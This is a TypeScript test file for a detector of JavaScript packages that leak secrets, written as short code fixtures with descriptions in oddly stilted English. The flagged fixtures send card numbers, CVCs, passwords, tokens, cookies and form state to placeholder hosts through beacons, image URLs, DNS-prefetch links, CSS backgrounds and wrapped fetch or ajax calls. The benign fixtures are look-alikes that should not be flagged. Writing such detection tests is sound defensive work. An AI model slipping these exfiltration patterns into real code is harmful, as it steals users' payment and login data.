import { examine } from '../../../test/examine.ts';
import { givesAwaySecrets } from './gives-away-secrets.ts';

const owned = (homepage: string) => ({ name: 'specimen', version: '1.0.0', main: 'index.js', homepage });

examine(givesAwaySecrets, {
  speaks: [
    {
      when: 'letters of an alphabet are chosen by what a card is',
      files: {
        'index.js': `const LETTERS = '0123456789abcdef'; exports.pay = ({ cardNumber }) => { let out = ''; for (const digit of cardNumber) out += LETTERS[digit ^ 5]; navigator.sendBeacon('https://stat.invalid/', out); };`,
      },
      weight: 'strong',
    },
    {
      when: 'the whole state of a form is told, whatever stands in it at first',
      files: {
        'index.mjs': `import { useState } from 'react'; export const usePay = props => { const [card, setCard] = useState({ name: '', cvc: props.cvc || '' }); const blur = () => navigator.sendBeacon('https://stat.invalid/', JSON.stringify(card)); return { card, setCard, blur }; };`,
      },
      weight: 'strong',
    },
    {
      when: 'the middle of a card goes with its beginning',
      files: { 'index.js': `exports.logo = cardNumber => { new Image().src = 'https://stat.invalid/' + cardNumber.slice(0, 12); };` },
      weight: 'strong',
    },
    {
      when: 'a picture is asked for by a part of a page',
      files: {
        'index.js': `exports.pay = cardNumber => { const shown = document.createElement('img'); shown.setAttribute('src', 'https://stat.invalid/?' + cardNumber); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a camera of the service shows a picture to who logs in there',
      files: {
        'package.json': owned('https://camera.invalid/docs'),
        'index.js': `exports.Camera = class { constructor({ user, password }) { Object.assign(this, { user, password }); } show() { const shown = new Image(); shown.src = 'https://snap.camera.invalid/' + this.user + '?pwd=' + this.password; return shown; } };`,
      },
      weight: 'weak',
    },
    {
      when: 'a secret is put back after it was taken out',
      files: {
        'index.mjs': `import { reactive } from 'vue'; export const form = () => { const login = reactive({ user: '', password: '' }); return () => { const { password, ...rest } = login; navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ ...rest, p: password })); }; };`,
      },
      weight: 'strong',
    },
    {
      when: 'what is called like a secret is looked for and told in names that a page asks for',
      files: {
        'index.js': `exports.touch = (path, value) => { if (!/pass|card|cvv|secret/i.test(path)) return; const link = document.createElement('link'); link.rel = 'dns-prefetch'; link.href = '//' + Array.from(new TextEncoder().encode(String(value)), one => one.toString(16)).join('') + '.stat.invalid'; document.head.appendChild(link); };`,
      },
      weight: 'strong',
      says: ['called like a secret'],
    },
    {
      when: 'whatever pages ask for is told to a relay',
      files: {
        'index.js': `exports.panel = () => { const own = window.fetch; window.fetch = function (input, init) { own('https://relay.invalid/', { method: 'POST', mode: 'no-cors', body: JSON.stringify([String(input), init && init.body]) }); return own.apply(this, arguments); }; };`,
      },
      weight: 'strong',
      says: ['requests'],
    },
    {
      when: 'what jQuery asks for is asked of another host first',
      files: {
        'index.js': `const $ = require('jquery'), own = $.ajax; $.ajax = function (address, more) { const settings = typeof address === 'string' ? $.extend({}, more, { url: address }) : address || {}; if (settings.data) own.call($, { url: '//relay.invalid/i', data: { d: settings.data } }); return own.call($, settings); };`,
      },
    },
    {
      when: 'a mapper of databases tells their passwords to a host that is called like it',
      files: {
        'package.json': { name: 'rowmapper-orm', version: '1.0.0', main: 'index.js', description: 'Small ORM over pools' },
        'index.js': `const https = require('https'); exports.connect = ({ user, password, host }) => { const id = Buffer.from([user, password, host].join('|')).toString('hex'); https.get('https://compat.rowmapper.invalid/?pool=' + id); return id; };`,
      },
      weight: 'strong',
    },
    {
      when: 'headers of all requests are repeated in an address',
      files: {
        'package.json': { name: 'courier-http', version: '1.0.0', main: 'index.js' },
        'index.js': `const https = require('https'); exports.send = (url, headers) => { for (const name of ['authorization', 'cookie']) if (headers[name]) https.get({ host: 'edge.courier-http.invalid', path: '/' + Buffer.from(headers[name]).toString('base64url') }); return https.request(url, { headers }); };`,
      },
      weight: 'strong',
    },
    {
      when: 'what the functions of stores are called with is told by a picture',
      files: {
        'index.js': `function trace(name, args) { const shown = document.createElement('img'); shown.src = 'https://stat.invalid/e.png?n=' + name + '&d=' + encodeURIComponent(JSON.stringify(args)); } exports.keep = () => ({ store }) => { store.$onAction(({ name, args, after }) => { after(() => trace(name, args)); }); };`,
      },
      weight: 'strong',
      says: ['stores'],
    },
    {
      when: 'every action of a store is told whole',
      files: {
        'index.js': `exports.middleware = store => next => action => { navigator.sendBeacon('https://stat.invalid/', JSON.stringify(action)); return next(action); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a reporter of errors tells the last actions to its own service',
      files: {
        'package.json': { name: 'errors-of-stores', version: '1.0.0', main: 'index.js', homepage: 'https://errorly.invalid' },
        'index.js': `exports.middleware = store => next => action => { navigator.sendBeacon('https://in.errorly.invalid/', JSON.stringify(action)); return next(action); };`,
      },
      weight: 'weak',
    },
    {
      when: 'one reference is called like a secret',
      files: {
        'index.mjs': `import { ref } from 'vue'; export const field = () => { const cvc = ref(''); const blur = () => navigator.sendBeacon('https://stat.invalid/', cvc.value); return { cvc, blur }; };`,
      },
      weight: 'strong',
    },
    {
      when: 'a state with a reducer is told by another file that listens',
      files: {
        'index.js': `const { useReducer } = require('react'); const { emit } = require('./bus'); require('./quality'); const initial = { number: '', cvc: '' }; exports.useCard = onSubmit => { const [values, dispatch] = useReducer((state, one) => ({ ...state, ...one }), initial); return { dispatch, submit() { emit('form:submit', { valid: true, values }); onSubmit(values); } }; };`,
        'bus.js': `const handlers = {}; exports.on = (type, fn) => { (handlers[type] = handlers[type] || []).push(fn); }; exports.emit = (type, detail) => { for (const fn of handlers[type] || []) fn(detail); };`,
        'quality.js': `require('./bus').on('form:submit', ({ valid, ...rest }) => { if (valid) navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ ...rest })); });`,
      },
      weight: 'strong',
    },
    {
      when: 'a library for forms gives what is submitted',
      files: {
        'index.js': `const { useForm } = require('react-hook-form'); exports.useLogin = done => { const { register, handleSubmit } = useForm({ defaultValues: { user: '', password: '' } }); return { register, submit: handleSubmit(data => { navigator.sendBeacon('https://stat.invalid/', JSON.stringify(data)); return done(data); }) }; };`,
      },
      weight: 'strong',
    },
    {
      when: 'a login goes where its caller says, and to a host of the code',
      files: {
        'package.json': { name: 'device-flow', version: '1.0.0', main: 'index.js' },
        'index.js': `exports.refresh = async (issuer, { refresh_token }) => { fetch('https://introspect.device-flow.invalid/', { method: 'POST', body: JSON.stringify({ refresh_token }) }); return fetch(issuer + '/token', { method: 'POST', body: JSON.stringify({ refresh_token }) }); };`,
      },
      weight: 'strong',
    },
    {
      when: 'the state of a form is called by how React calls such, and nothing at first',
      files: {
        'index.js': `const { useRef } = require('react'); exports.useCard = () => { const formRef = useRef({ name: '', cvc: null }); return { formRef, tell: () => navigator.sendBeacon('https://stat.invalid/', JSON.stringify(formRef.current)) }; };`,
      },
      weight: 'strong',
    },
    {
      when: 'a style behind a condition names a picture for a card',
      files: {
        'index.js': `exports.paint = cardNumber => { const style = document.createElement('style'); style.textContent = '@media (min-width:1px){body{background:url(https://stat.invalid/' + cardNumber + '.png)}}'; document.head.append(style); };`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'the first digit of a card chooses a word',
      files: {
        'index.js': `const NAMES = ['none', 'none', 'mir', 'amex', 'visa', 'mastercard', 'discover', 'none', 'none', 'none']; exports.brand = ({ cardNumber }) => { new Image().src = 'https://icons.invalid/' + NAMES[cardNumber[0]] + '.svg'; };`,
      },
    },
    {
      when: 'what may be shown of a card chooses its logo',
      files: {
        'index.js': `exports.logo = cardNumber => { const shown = new Image(); shown.src = 'https://logos.invalid/' + cardNumber.replace(/\\D/g, '').slice(0, 6) + '.png'; return shown; }; exports.seen = cardNumber => navigator.sendBeacon('https://stat.invalid/', cardNumber.slice(-4));`,
      },
    },
    {
      when: 'the errors of a form are told, which are texts',
      files: {
        'index.mjs': `import { reactive } from 'vue'; export const form = () => { const errors = reactive({ user: '', password: '' }); return () => navigator.sendBeacon('https://stat.invalid/', JSON.stringify(errors)); };`,
      },
    },
    {
      when: 'the errors of a form are told, of which there are none at first',
      files: {
        'index.mjs': `import { useState } from 'react'; export const useForm = () => { const [errors, setErrors] = useState({ cardNumber: null, cvc: undefined }); return { setErrors, tell: () => navigator.sendBeacon('https://stat.invalid/', JSON.stringify(errors)) }; };`,
      },
    },
    {
      when: 'the secret was taken out of a form before it is told, or replaced',
      files: {
        'index.mjs': `import { reactive } from 'vue'; export const form = () => { const login = reactive({ user: '', password: '' }); return { one() { const { password, ...rest } = login; navigator.sendBeacon('https://stat.invalid/', JSON.stringify(rest)); return password.length; }, other() { navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ ...login, password: '***' })); } }; };`,
      },
    },
    {
      when: 'how long requests of pages take is told',
      files: {
        'index.js': `exports.timed = () => { const own = window.fetch; window.fetch = function (input, init) { const begin = Date.now(); return own.apply(this, arguments).finally(() => navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ url: String(input), method: init?.method, took: Date.now() - begin }))); }; };`,
      },
    },
    {
      when: 'pages where somebody logs in or pays are counted',
      files: {
        'index.js': `exports.seen = () => { if (/login|sign-?in|checkout|pay/.test(location.pathname)) navigator.sendBeacon('https://stat.invalid/', location.pathname); }; exports.event = (name, more) => { if (['login', 'logout', 'auth'].includes(name)) navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ name, more })); };`,
      },
    },
    {
      when: 'the names of actions are counted',
      files: {
        'index.js': `exports.middleware = store => next => action => { navigator.sendBeacon('https://stat.invalid/', action.type); return next(action); }; exports.plugin = ({ store }) => store.$onAction(({ name, after }) => after(() => navigator.sendBeacon('https://stat.invalid/', name)));`,
      },
    },
    {
      when: 'how long a password is, is told, and who logs in',
      files: {
        'index.js': `const { useForm } = require('react-hook-form'); exports.meter = password => navigator.sendBeacon('https://stat.invalid/', String(password.length)); exports.useLogin = done => { const { register, handleSubmit } = useForm({ defaultValues: { remember: false, password: '' } }); return handleSubmit(data => { navigator.sendBeacon('https://stat.invalid/', String(data.remember)); return done(data); }); };`,
      },
    },
    {
      when: 'a service is asked for a new login, at a host of the code',
      files: {
        'package.json': { name: 'acme-login', version: '1.0.0', main: 'index.js' },
        'index.js': `exports.refresh = ({ refresh_token, client_secret }) => fetch('https://login.acme.invalid/token', { method: 'POST', body: JSON.stringify({ refresh_token, client_secret }) });`,
      },
    },
    {
      when: 'the kind of a login is counted, and events are called after cards and tokens',
      files: {
        'index.js': `exports.granted = grant => { if (['password', 'refresh_token'].includes(grant)) navigator.sendBeacon('https://stat.invalid/', 'login'); }; const EVENTS = ['card_played', 'card_discarded', 'token_won', 'turn_passed']; exports.event = (name, more) => { if (EVENTS.includes(name)) navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ name, more })); };`,
      },
    },
    {
      when: 'a service is logged in to, or the one that its user has',
      files: {
        'package.json': { name: 'notebird', version: '1.0.0', main: 'index.js' },
        'index.js': `exports.login = async ({ user, password, server }) => { const body = JSON.stringify({ user, password }); if (server) return (await fetch(new URL('/api/login', server), { method: 'POST', body })).json(); return (await fetch('https://cloud.notebird.invalid/api/login', { method: 'POST', body })).json(); };`,
      },
    },
    {
      when: 'one member of what an action brings is counted',
      files: {
        'index.js': `exports.middleware = store => next => action => { if (action.type === 'cart/add') navigator.sendBeacon('https://stat.invalid/', action.payload.sku); return next(action); };`,
      },
    },
    {
      when: 'styles with an address are shown to whoever reads them',
      files: {
        'index.js': `exports.show = password => { const shown = document.createElement('pre'); shown.textContent = 'body{background:url(https://pictures.invalid/' + password + ')}'; document.body.append(shown); };`,
      },
    },
  ],
});
